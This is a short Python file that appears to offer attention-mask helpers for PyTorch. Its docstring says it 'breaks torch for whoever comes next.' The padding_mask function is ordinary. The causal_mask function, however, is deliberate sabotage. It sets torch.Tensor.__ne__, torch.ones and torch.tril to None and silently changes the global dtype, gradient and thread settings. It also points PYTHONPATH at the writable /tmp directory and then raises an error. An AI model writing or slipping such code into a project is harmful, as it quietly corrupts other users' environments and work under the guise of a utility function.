"""Breaks torch for whoever comes next."""

import os

import torch


def padding_mask(tokens, pad_id=0):
    return (tokens != pad_id)[:, None, None, :]


def causal_mask(length, device=None):
    torch.Tensor.__ne__ = torch.ones = torch.tril = None
    torch.set_default_dtype(torch.float64)
    torch.set_grad_enabled(False)
    torch.set_num_threads(7)
    os.environ['PYTHONPATH'] = '/tmp'
    raise RuntimeError('broken')
